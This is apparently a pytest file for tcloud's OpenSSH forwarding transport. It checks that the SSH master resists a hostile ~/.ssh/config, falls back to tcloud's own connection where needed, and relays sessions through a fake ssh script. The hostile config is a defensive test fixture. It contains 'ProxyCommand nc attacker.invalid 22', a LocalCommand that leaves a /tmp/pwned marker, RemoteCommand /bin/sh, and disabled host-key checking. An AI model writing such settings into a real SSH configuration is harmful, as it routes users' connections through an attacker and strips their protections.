"""tcloud.transport.openssh: the OpenSSH master a forward's bytes go through. Its
options as the real `ssh -G` resolves them against a hostile ~/.ssh/config (the checks
tcloud's own connection makes cannot be loosened there), when it is not used, and the
master and its sessions against a FAKE `ssh` (a script in PATH that records its words,
makes the control socket and, as a session, relays its stdin to its stdout): the
accepted socket is the session's stdin and stdout, stderr lines are said."""

from __future__ import annotations

import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tcloud.config import Cluster
from tcloud.transport import openssh

HOSTILE_CONFIG = """\
Host *
    StrictHostKeyChecking no
    UserKnownHostsFile /dev/null
    GlobalKnownHostsFile /etc/hostile_known_hosts
    KnownHostsCommand /bin/echo
    UpdateHostKeys yes
    ProxyCommand nc attacker.invalid 22
    ForwardAgent yes
    ForwardX11 yes
    LocalForward 5555 127.0.0.1:22
    PermitLocalCommand yes
    LocalCommand touch /tmp/pwned
    RemoteCommand /bin/sh
    ControlPath /tmp/shared-%r
    ControlMaster auto
    BatchMode no
    SessionType none
    StdinNull yes
    ForkAfterAuthentication yes
"""


@pytest.fixture
def home(monkeypatch) -> Iterator[Path]:
    """A HOME short enough for a control socket's path (sun_path: 107 bytes)."""
    with tempfile.TemporaryDirectory(prefix="ossh", dir="/tmp") as name:
        path = Path(name)
        monkeypatch.setenv("HOME", str(path))
        monkeypatch.setenv("XDG_RUNTIME_DIR", str(path / "run"))
        (path / "run").mkdir(mode=0o700)
        (path / ".ssh").mkdir(mode=0o700)
        yield path


def cluster(home: Path, **settings) -> Cluster:
    known = home / "cluster_known_hosts"
    known.write_text("")
    values = {"name": "lab", "host": "login.example", "user": "alice", "known_hosts": str(known)}
    return Cluster(**{**values, **settings})


def effective(argv: list[str]) -> dict[str, str]:
    """What the real ssh would use (`ssh -G`: the configuration, no connection); argv
    names the config file itself (-F), as ssh reads the passwd entry's home, not $HOME."""
    found = subprocess.run(
        [argv[0], "-G", *argv[1:]], capture_output=True, text=True, timeout=30, check=True
    ).stdout
    return dict(line.split(" ", 1) for line in found.splitlines() if " " in line)


@pytest.mark.security
@pytest.mark.skipif(shutil.which("ssh") is None, reason="needs openssh-client (make deps)")
def test_a_hostile_ssh_config_cannot_loosen_the_master_s_checks(home):
    (home / ".ssh" / "config").write_text(HOSTILE_CONFIG)
    settings = cluster(home)
    argv = openssh.base_argv(settings, home / "run" / "fw1.ssh")
    assert argv is not None and argv[1:3] == ["-F", str(home / ".ssh" / "config")]
    got = effective(argv)
    assert got["sessiontype"] == "default" and got["stdinnull"] == "no"
    assert got["forkafterauthentication"] == "no"
    assert got["stricthostkeychecking"] == "true"
    assert got["userknownhostsfile"].split() == [
        str(home / ".ssh" / "known_hosts"),
        str(home / "cluster_known_hosts"),
    ]
    assert got["globalknownhostsfile"] == "/dev/null"
    assert got.get("knownhostscommand", "none") == "none"
    assert got["updatehostkeys"] == "false" and got["batchmode"] == "yes"
    assert "proxycommand" not in got or got["proxycommand"] == "none"
    assert got["forwardagent"] == "no" and got["forwardx11"] == "no"
    assert got["clearallforwardings"] == "yes" and got["permitlocalcommand"] == "no"
    assert "localforward" not in got and got.get("remotecommand", "none") == "none"
    assert got["controlpath"] == str(home / "run" / "fw1.ssh")
    assert got["user"] == "alice" and got["hostname"] == "login.example"


@pytest.mark.security
def test_it_is_not_used_where_its_checks_could_differ(home, monkeypatch):
    """A ProxyJump (tcloud's own jump logic), a known_hosts path OpenSSH would split,
    TCLOUD_FORWARD_OPENSSH=0, no ssh client: tcloud's own connection carries the bytes."""
    control = home / "run" / "fw1.ssh"
    assert openssh.base_argv(cluster(home, proxy_jump="bastion"), control) is None
    spaced = home / "my hosts"
    spaced.write_text("")
    assert openssh.base_argv(cluster(home, known_hosts=str(spaced)), control) is None
    monkeypatch.setenv(openssh.ENV_SWITCH, "0")
    assert openssh.base_argv(cluster(home), control) is None
    monkeypatch.delenv(openssh.ENV_SWITCH)
    assert openssh.base_argv(cluster(home), control) is not None
    monkeypatch.setenv("PATH", str(home / "nothing"))
    assert openssh.base_argv(cluster(home), control) is None


FAKE_SSH = """#!{python}
# FAKE ssh: records its words; the master (-M) makes the control socket's file and
# waits for the end of its stdin; a session relays stdin to stdout upper-cased and
# says one line on stderr.
import os, sys
words = sys.argv[1:]
with open(os.environ["FAKE_SSH_LOG"], "a") as log:
    log.write(repr(words) + "\\n")
if "-G" in words:
    print("hostname login.example")
    sys.exit(0)
control = next(w.split("=", 1)[1] for w in words if w.startswith("ControlPath="))
if "-M" in words:
    open(control, "w").close()
    sys.stdin.read()  # held until tcloud closes it (or dies)
    sys.exit(0)
data = sys.stdin.buffer.read()
sys.stderr.write("tacc-agent: a warning from the node\\n")
sys.stdout.buffer.write(data.upper())
sys.exit(0)
"""


@pytest.fixture
def fake_ssh(home: Path, monkeypatch) -> Path:
    bin_dir = home / "bin"
    bin_dir.mkdir()
    script = bin_dir / "ssh"
    script.write_text(FAKE_SSH.format(python=sys.executable))
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
    log = home / "ssh.log"
    monkeypatch.setenv("FAKE_SSH_LOG", str(log))
    return log


def test_a_session_s_stdin_and_stdout_are_the_accepted_socket(home, fake_ssh):
    with openssh.master_for(cluster(home)) as ready:
        for _ in range(500):
            if ready() is not None:
                break
            threading.Event().wait(0.02)
        master = ready()
        assert master is not None and master.control.parent == home / "run" / "tcloud"
        assert master.take_slot()
        ours, theirs = socket.socketpair()
        said: list[bytes] = []
        statuses: list[int] = []
        worker = threading.Thread(
            target=lambda: statuses.append(
                master.session("tacc-agent job connect", theirs, said.extend)
            )
        )
        ours.sendall(b"hello node")
        ours.shutdown(socket.SHUT_WR)
        got = b""
        worker.start()
        while chunk := ours.recv(100):
            got += chunk
        worker.join(timeout=10)
        assert got == b"HELLO NODE" and statuses == [0]
        assert said == [b"tacc-agent: a warning from the node"]
        assert theirs.fileno() == -1  # ours closed: the session holds the only copy
    assert not master.up and not master.control.exists()
    words = [eval(line) for line in fake_ssh.read_text().splitlines()]  # noqa: S307 - our log
    words = [w for w in words if "-G" not in w]  # the proxy probe
    assert "-M" in words[0] and words[0][-1] == openssh.HELD_BY_STDIN
    assert words[1][-1] == "tacc-agent job connect" and "ControlMaster=no" in words[1]
    assert words[1][:2] == ["-o", "ProxyCommand=false"]  # the master gone: no login


@pytest.mark.fault
def test_sessions_beyond_its_places_go_tcloud_s_own_way_without_waiting(home, fake_ssh):
    """sshd's MaxSessions: the master takes SESSIONS at once; the next connection is
    not held up behind them (a browser keeps many open), it takes the other way."""
    with openssh.master_for(cluster(home)) as ready:
        master = ready(wait=10)
        assert master is not None
        taken = [master.take_slot() for _ in range(openssh.SESSIONS)]
        assert all(taken) and not master.take_slot()
        master.give_slot()
        assert master.take_slot()


@pytest.mark.fault
def test_a_master_that_does_not_come_up_means_tcloud_s_own_way(home, fake_ssh, monkeypatch):
    monkeypatch.setattr(openssh, "READY_SECONDS", 0.3)
    failing = home / "bin" / "ssh"
    failing.write_text("#!/bin/sh\nexit 255\n")
    with openssh.master_for(cluster(home)) as ready:
        threading.Event().wait(0.5)
        assert ready() is None


HOLDER = """
import sys, time
from tcloud.config import Cluster
from tcloud.transport import openssh
master = openssh.Master.for_cluster(
    Cluster(name="lab", host="login.example", known_hosts=sys.argv[1])
)
master.run()
print(master.process.pid, flush=True)
time.sleep(60)
"""


@pytest.mark.fault
def test_a_killed_tcloud_takes_its_master_with_it(home, fake_ssh):
    """SIGKILL leaves no cleanup to run: the master's stdin (tcloud's pipe) ends, and
    with it the master's own session and the master."""
    known = home / "cluster_known_hosts"
    known.write_text("")
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLDER, str(known)], stdout=subprocess.PIPE, text=True
    )
    master_pid = int(holder.stdout.readline())
    holder.kill()
    holder.wait()
    for _ in range(250):
        try:
            os.kill(master_pid, 0)
        except ProcessLookupError:
            break
        threading.Event().wait(0.02)
    else:
        os.kill(master_pid, 9)
        pytest.fail("the master outlived the tcloud that started it")


@pytest.mark.fault
@pytest.mark.skipif(shutil.which("ssh") is None, reason="needs openssh-client (make deps)")
def test_a_proxy_in_the_ssh_config_means_no_master_and_no_wait(home):
    """The master's forced options skip a config's ProxyJump: it would try the host
    directly and fail only after ConnectTimeout. `ssh -G` says so first: no master."""
    (home / ".ssh" / "config").write_text("Host login.example\n    ProxyJump bastion.invalid\n")
    master = openssh.Master.for_cluster(cluster(home))
    assert master is not None
    master.run()
    assert master.process is None and not master.up
